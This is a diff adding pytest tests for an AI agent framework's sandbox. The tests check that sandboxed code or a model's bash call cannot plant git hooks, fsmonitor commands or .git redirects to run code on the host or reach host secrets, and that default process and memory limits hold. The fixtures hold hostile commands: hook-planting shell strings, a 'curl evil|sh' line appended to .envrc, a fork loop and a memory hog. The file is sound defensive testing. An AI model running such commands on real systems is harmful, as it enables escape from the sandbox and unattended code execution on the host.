@@ -1,0 +1,235 @@
+"""Persistence out of the sandbox through the writable workspace, and a sandbox's default limits.
+
+Sandboxed code may write the workspace, but git runs ``.git/hooks/*`` and the commands named in
+``.git/config`` (``core.fsmonitor``, ``core.hooksPath``, aliases) on the host, whenever someone
+uses git there. So ``.git`` is read-only inside the sandbox unless the operator says otherwise
+(``execution.read_only_paths``). And a `LocalSandbox` built with no limits still has some: a
+fork bomb or a memory hog stops at the defaults.
+"""
+
+from __future__ import annotations
+
+import os
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from jianmu import Constraints, ReactiveRunner, StateManager
+from jianmu.constraints import (
+    DEFAULT_READ_ONLY_PATHS,
+    LOCAL_MEMORY_MB,
+    LOCAL_PIDS,
+    SkillConstraints,
+)
+from jianmu.execution._process import cgroup_support
+from jianmu.execution.local_sandbox import LocalSandbox, bwrap_available
+from jianmu.execution.runner import ToolRunner
+from jianmu.nodes.state import AgentState
+from jianmu.nodes.tool_executor import ToolExecutor
+from jianmu.tools.providers import BuiltinToolProvider
+
+pytestmark = pytest.mark.anyio
+
+needs_bwrap = pytest.mark.skipif(not bwrap_available(network=False),
+                                 reason="bubblewrap cannot create namespaces here")
+
+
+@pytest.fixture
+def anyio_backend() -> str:
+    return "asyncio"
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    """A workspace that is a git repository (made by hand: no git needed)."""
+    ws = tmp_path / "ws"
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    return ws
+
+
+@pytest.fixture(params=[True, False], ids=["warm", "cold"])
+async def box(request: pytest.FixtureRequest, repo: Path) -> AsyncIterator[LocalSandbox]:
+    if not bwrap_available(network=False):
+        pytest.skip("bubblewrap cannot create namespaces here")
+    async with LocalSandbox(repo, timeout=30, warm=request.param) as sandbox:
+        yield sandbox
+
+
+_PLANT = (
+    "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; "
+    "chmod +x .git/hooks/pre-commit; "
+    "printf '[core]\\n\\tfsmonitor = \"touch pwned\"\\n\\thooksPath = evil\\n' >> .git/config; "
+    "mv .git/config .git/config.old; mv .git gone; rm -rf .git; "
+    "echo kept > work.txt"
+)
+
+
+async def test_git_hooks_and_config_cannot_be_planted(box: LocalSandbox, repo: Path) -> None:
+    result = await box.exec(["bash", "-c", _PLANT])
+    assert (repo / "work.txt").read_text() == "kept\n", result  # the rest stays writable
+    assert os.listdir(repo / ".git" / "hooks") == [], result
+    assert (repo / ".git" / "config").read_text() == "[core]\n\tbare = false\n", result
+    assert sorted(os.listdir(repo)) == [".git", "work.txt"], result
+    assert "Read-only file system" in result.stderr, result
+    # reading stays allowed: git status works in the sandbox
+    assert (await box.exec(["cat", ".git/HEAD"])).stdout == "ref: refs/heads/main\n"
+
+
+@needs_bwrap
+async def test_a_git_file_pointing_elsewhere_cannot_be_rewritten(tmp_path: Path) -> None:
+    """A worktree's ``.git`` is a file naming the real folder; rewritten, it would make git
+    use a folder of the attacker's (hooks and all)."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / ".git").write_text("gitdir: /somewhere/.git/worktrees/ws\n")
+    async with LocalSandbox(ws, timeout=30) as sandbox:
+        result = await sandbox.exec(["bash", "-c", "echo 'gitdir: evil' > .git"])
+    assert (ws / ".git").read_text() == "gitdir: /somewhere/.git/worktrees/ws\n", result
+
+
+@needs_bwrap
+@pytest.mark.parametrize("warm", [True, False], ids=["warm", "cold"])
+async def test_a_git_link_to_a_host_folder_is_not_mounted(tmp_path: Path, warm: bool) -> None:
+    """A ``.git`` that code replaced with a link to a host folder must not make the sandbox
+    mount that folder (a mount by path would follow the link and show it inside)."""
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "key").write_text("TOPSECRET")
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / ".git").symlink_to(secret)
+    async with LocalSandbox(ws, timeout=30, warm=warm) as sandbox:
+        result = await sandbox.exec(["cat", ".git/key"])
+    assert "TOPSECRET" not in result.stdout, result
+
+
+@needs_bwrap
+async def test_the_operator_may_leave_git_writable(repo: Path) -> None:
+    async with LocalSandbox(repo, timeout=30, read_only_paths=()) as sandbox:
+        result = await sandbox.exec(["bash", "-c", "echo hook > .git/hooks/post-commit"])
+    assert (repo / ".git" / "hooks" / "post-commit").read_text() == "hook\n", result
+
+
+@needs_bwrap
+async def test_other_paths_can_be_made_read_only(repo: Path) -> None:
+    (repo / ".envrc").write_text("export A=1\n")
+    (repo / ".vscode").mkdir()
+    (repo / ".vscode" / "tasks.json").write_text("{}")
+    async with LocalSandbox(repo, timeout=30,
+                            read_only_paths=[".envrc", ".vscode/tasks.json"]) as sandbox:
+        await sandbox.exec(["bash", "-c", "echo 'curl evil|sh' >> .envrc; "
+                                          "echo '{\"tasks\": 1}' > .vscode/tasks.json; "
+                                          "echo ok > .git/hooks/x"])
+    assert (repo / ".envrc").read_text() == "export A=1\n"
+    assert (repo / ".vscode" / "tasks.json").read_text() == "{}"
+    # listing other paths replaces the default: .git is writable now
+    assert (repo / ".git" / "hooks" / "x").exists()
+
+
+def test_read_only_paths_must_stay_inside_the_workspace(tmp_path: Path) -> None:
+    for bad in ("/etc", "..", "../x", ".", "a/../../b"):
+        with pytest.raises(ValueError, match="inside the workspace"):
+            LocalSandbox(tmp_path, network=True, use_bwrap=False, read_only_paths=[bad])
+        with pytest.raises(ValueError, match="inside the workspace"):
+            Constraints.model_validate({"execution": {"read_only_paths": [bad]}})
+
+
+@needs_bwrap
+async def test_a_model_with_bash_allowed_cannot_plant_a_hook(repo: Path) -> None:
+    """Driven as a model would: ``bash: allow``, nothing said about read-only paths."""
+    constraints = Constraints.model_validate({
+        "guard": {"tool_policy": {"bash": "allow"}},
+        "execution": {"workdir": str(repo)},
+    })
+    tools = BuiltinToolProvider(["bash"]).get_tools()
+    actions = [{"id": "a", "name": "bash", "arguments": {"command": _PLANT}}]
+    runner = ReactiveRunner(ToolExecutor(tools=tools, constraints=constraints),
+                            StateManager(AgentState, {"actions": actions}))
+    await runner.run(timeout=60)
+    messages = [m.content or "" for m in runner.state.get("messages")]
+    assert (repo / "work.txt").exists(), messages
+    assert os.listdir(repo / ".git" / "hooks") == [], messages
+    assert "fsmonitor" not in (repo / ".git" / "config").read_text(), messages
+
+
+def test_the_setting_reaches_the_sandbox_and_a_skill_cannot_drop_it(tmp_path: Path) -> None:
+    unset = ToolRunner(Constraints.model_validate(
+        {"execution": {"workdir": str(tmp_path), "network": True}}).execution)
+    assert unset.sandbox.read_only_paths == DEFAULT_READ_ONLY_PATHS
+    operator = Constraints.model_validate(
+        {"execution": {"workdir": str(tmp_path), "network": True, "read_only_paths": []}})
+    off = ToolRunner(operator.execution)
+    assert off.sandbox.read_only_paths == ()
+    # an untrusted skill layer may add a path, never take .git off
+    skill = SkillConstraints.model_validate({"execution": {"read_only_paths": [".envrc"]}})
+    merged = Constraints.merge(Constraints(), skill).execution.read_only_paths
+    assert merged == [".git", ".envrc"]
+    merged = Constraints.merge(operator, skill).execution.read_only_paths
+    assert merged == [".envrc"]
+    empty = SkillConstraints.model_validate({"execution": {"read_only_paths": []}})
+    assert Constraints.merge(Constraints(), empty).execution.read_only_paths == [".git"]
+
+
+def test_docker_mounts_git_read_only(repo: Path) -> None:
+    pytest.importorskip("docker")
+    from jianmu.execution.docker_sandbox import DockerSandbox
+
+    volumes = DockerSandbox(repo, base_url="unix:///nonexistent.sock")._volumes()
+    assert volumes[str(repo / ".git")] == {"bind": "/workspace/.git", "mode": "ro"}
+    assert volumes[str(repo)]["mode"] == "rw"
+    (repo / ".git").rename(repo / "real-git")
+    (repo / ".git").symlink_to("/etc")  # a link is never mounted (docker would follow it)
+    volumes = DockerSandbox(repo, base_url="unix:///nonexistent.sock")._volumes()
+    assert list(volumes) == [str(repo)]
+
+
+# -- default limits of a LocalSandbox built with none ------------------------------------------
+
+_FORKS = r"""
+import os, time
+n = 0
+try:
+    while n < 2 * LIMIT:
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+        n += 1
+except OSError:
+    pass
+print(n)
+"""
+
+
+def _default_box(ws: Path) -> LocalSandbox:
+    if bwrap_available(network=False):
+        return LocalSandbox(ws, timeout=30)
+    return LocalSandbox(ws, timeout=30, network=True, use_bwrap=False)
+
+
+async def test_a_sandbox_with_no_limits_set_still_bounds_processes(tmp_path: Path) -> None:
+    support = cgroup_support()
+    if os.geteuid() == 0 and (support is None or "pids" not in support.controllers):
+        pytest.skip("root without a pids control group: no process limit can bind here")
+    box = _default_box(tmp_path)
+    python = box.python if box.uses_bwrap else sys.executable
+    async with box:
+        # bounded: at most 2 * LIMIT sleeping children, all killed when the call ends
+        result = await box.exec([python, "-c", _FORKS.replace("LIMIT", str(LOCAL_PIDS))])
+    assert result.exit_code == 0, result
+    assert int(result.stdout) < LOCAL_PIDS, result
+    assert box.pids == LOCAL_PIDS
+
+
+async def test_a_sandbox_with_no_limits_set_still_bounds_memory(tmp_path: Path) -> None:
+    box = _default_box(tmp_path)
+    python = box.python if box.uses_bwrap else sys.executable
+    hog = f"b = b'x' * ({LOCAL_MEMORY_MB + 256} << 20); print(len(b))"
+    async with box:
+        result = await box.exec([python, "-c", hog])
+    assert result.exit_code != 0 and result.oom_killed, result
+    assert result.stdout == "", result
+    assert box.memory_mb == LOCAL_MEMORY_MB
